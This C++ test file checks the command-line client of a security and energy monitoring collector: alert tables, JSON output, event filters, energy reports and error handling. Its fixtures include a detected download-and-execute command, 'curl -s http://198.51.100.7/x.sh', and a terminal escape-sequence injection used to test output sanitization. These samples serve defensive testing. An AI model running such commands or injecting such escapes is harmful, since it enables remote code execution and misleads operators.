// Runs the built `vigie` binary against an in-process collector.
#include <gtest/gtest.h>
#include <sys/wait.h>

#include <cstdio>
#include <nlohmann/json.hpp>

#include "run_command.h"
#include "support/loopback_collector.h"
#include "support/sample_batch.h"

namespace vigie::collector {
namespace {

using testing::kSecondNs;
using testing::sample_batch;

using cli::testing::Run;

Run run(const std::string& arguments, const std::string& environment = "") {
  return cli::testing::run_command(environment + " " + VIGIE_CLI_PATH + " " + arguments);
}

class VigieCliTest : public ::testing::Test {
 protected:
  VigieCliTest() {
    // A minute ago, so that the default five-minute energy window holds it.
    const uint64_t now =
        static_cast<uint64_t>(std::chrono::duration_cast<std::chrono::nanoseconds>(
                                  std::chrono::system_clock::now().time_since_epoch())
                                  .count());
    EXPECT_EQ(
        loopback_.store().store_batch(sample_batch(1, "node1", now - 60 * kSecondNs), now).status,
        StoreOutcome::Status::kStored);
    auto estimated = sample_batch(1, "node2", now - 60 * kSecondNs);
    estimated.alerts.clear();
    estimated.zone_energy = {{now - 60 * kSecondNs, now - 50 * kSecondNs, "node",
                              protocol::EnergySource::kEstimate, true, 45}};
    for (auto& workload : estimated.workload_energy) workload.estimated = true;
    EXPECT_EQ(loopback_.store().store_batch(estimated, now).status, StoreOutcome::Status::kStored);
  }

  testing::LoopbackCollector loopback_;
  const std::string collector_ = "--collector " + loopback_.url();
};

TEST_F(VigieCliTest, PrintsAlertsAsATable) {
  const auto result = run(collector_ + " alerts");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  const auto& out = result.output;
  EXPECT_EQ(out.rfind("TIME", 0), 0u) << out;
  for (const char* text :
       {"LEVEL", "COMMAND LINE", "high", "Download and execute with curl", "node1", "alice", "4242",
        "slurm_job:42", "curl -s http://198.51.100.7/x.sh"}) {
    EXPECT_NE(out.find(text), std::string::npos) << text << "\n" << out;
  }
  // Local ISO time: 2024-05-01T14:03:07+0200
  EXPECT_EQ(out[out.find('\n') + 11], 'T') << out;
}

TEST_F(VigieCliTest, PrintsTheApisJsonAsIs) {
  const auto result = run(collector_ + " --json alerts");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  const auto body = nlohmann::json::parse(result.output);
  ASSERT_EQ(body.at("alerts").size(), 1u);
  EXPECT_EQ(body["alerts"][0].at("rule_title"), "Download and execute with curl");
  EXPECT_NE(result.output.find("\n  \"alerts\""), std::string::npos) << "not pretty-printed";
}

TEST_F(VigieCliTest, FiltersEvents) {
  const auto connects = run(collector_ + " events --kind network_connect --host node1 --since 10m");
  ASSERT_EQ(connects.exit_code, 0) << connects.output;
  EXPECT_NE(connects.output.find("/usr/bin/curl → tcp 198.51.100.7:443"), std::string::npos)
      << connects.output;
  EXPECT_EQ(connects.output.find("process_exec"), std::string::npos) << connects.output;
  EXPECT_EQ(connects.output.find("node2"), std::string::npos) << connects.output;

  const auto all = run(collector_ + " --json events --since 10m");
  ASSERT_EQ(all.exit_code, 0) << all.output;
  EXPECT_EQ(nlohmann::json::parse(all.output).at("events").size(), 6u);
  const auto none = run(collector_ + " events --since 5s");
  EXPECT_NE(none.output.find("no events"), std::string::npos) << none.output;
}

TEST_F(VigieCliTest, PrintsEnergyWithEstimatesFlagged) {
  const auto result = run(collector_ + " energy");
  ASSERT_EQ(result.exit_code, 0) << result.output;
  const auto& out = result.output;
  for (const char* text :
       {"Nodes", "Workloads", "node1", "12.0 W", "120 J", "1.500 g", "node2", "4.50 W",
        "(estimated)", "slurm_job:42", "unattributed", "9.00 W", "8.0 s"}) {
    EXPECT_NE(out.find(text), std::string::npos) << text << "\n" << out;
  }
  // node1 is measured: its line carries no flag.
  const auto node1 =
      out.substr(out.find("node1"), out.find('\n', out.find("node1")) - out.find("node1"));
  EXPECT_EQ(node1.find("estimated"), std::string::npos) << node1;
  const auto only = run(collector_ + " energy --host node2");
  EXPECT_EQ(only.output.find("node1"), std::string::npos) << only.output;
}

TEST_F(VigieCliTest, UsesVigieCollectorFromTheEnvironment) {
  const auto result = run("agents", "VIGIE_COLLECTOR=" + loopback_.url());
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_NE(result.output.find("agent-node1"), std::string::npos) << result.output;
}

TEST_F(VigieCliTest, EscapesControlCharactersFromMonitoredMachines) {
  // A command line that would retitle the operator's terminal window, and
  // bytes that are not UTF-8.
  const uint64_t now =
      static_cast<uint64_t>(std::chrono::duration_cast<std::chrono::nanoseconds>(
                                std::chrono::system_clock::now().time_since_epoch())
                                .count());
  auto batch = sample_batch(1, "node3", now - 60 * kSecondNs);
  auto& exec = std::get<protocol::ProcessExec>(batch.events[0].body);
  exec.argv = {"printf", "\x1b]0;pwned\x07", "\xff\xfe"};
  exec.command_line =
      "printf \x1b]0;pwned\x07\tx\x7f \xc2\x9b"
      "2J \xff\xfe";
  batch.alerts[0].event = batch.events[0];
  ASSERT_EQ(loopback_.store().store_batch(batch, now).status, StoreOutcome::Status::kStored);

  for (const char* command : {" alerts --host node3", " events --host node3 --kind process_exec"}) {
    const auto result = run(collector_ + command);
    ASSERT_EQ(result.exit_code, 0) << result.output;
    EXPECT_NE(
        result.output.find("printf \\e]0;pwned\\x07\\tx\\x7f \\u009b2J \xef\xbf\xbd\xef\xbf\xbd"),
        std::string::npos)
        << command << "\n"
        << result.output;
    for (const char control : {'\x1b', '\x07', '\x7f', '\t'})
      EXPECT_EQ(result.output.find(control), std::string::npos) << command << int(control);
  }
  // --json is escaped by JSON itself.
  const auto json = run(collector_ + " --json events --host node3 --kind process_exec");
  ASSERT_EQ(json.exit_code, 0) << json.output;
  EXPECT_NE(json.output.find(R"(\u001b]0;pwned\u0007)"), std::string::npos) << json.output;
  EXPECT_EQ(nlohmann::json::parse(json.output).at("events").at(0).at("argv").at(2),
            "\xef\xbf\xbd\xef\xbf\xbd");
}

TEST_F(VigieCliTest, FailsClearly) {
  const auto unreachable = run("--collector http://127.0.0.1:1 alerts");
  EXPECT_EQ(unreachable.exit_code, 2);
  EXPECT_NE(unreachable.output.find("cannot reach the collector at http://127.0.0.1:1"),
            std::string::npos)
      << unreachable.output;

  const auto refused = run(collector_ + " events --kind fork");
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_NE(refused.output.find("the collector answered 400"), std::string::npos) << refused.output;
  EXPECT_NE(refused.output.find("'kind'"), std::string::npos) << refused.output;

  const auto bad_since = run(collector_ + " events --since yesterday");
  EXPECT_EQ(bad_since.exit_code, 1);
  EXPECT_NE(bad_since.output.find("--since expects a duration"), std::string::npos)
      << bad_since.output;

  EXPECT_NE(run("").exit_code, 0);
}

}  // namespace
}  // namespace vigie::collector
